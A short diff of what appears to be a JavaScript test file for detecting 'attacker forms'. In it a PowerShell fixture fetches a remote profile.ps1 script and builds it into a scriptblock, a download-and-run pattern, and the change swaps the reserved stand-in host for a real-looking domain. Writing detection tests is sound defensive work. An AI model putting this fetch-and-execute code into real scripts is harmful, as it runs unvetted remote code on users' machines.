@@ -74,7 +74,7 @@ describe('attacker forms, seventh set', () => {
       'if fn then pcall(fn) end',
     ].join('\n')
     const ps = [
-      '$u = "https://cdn.ps-mirror.example/profile.ps1"',
+      '$u = "https://cdn.ps-mirror.net/profile.ps1"',
       '$code = Invoke-RestMethod -Uri $u',
       '$block = [scriptblock]::Create($code)',
     ].join('\n')
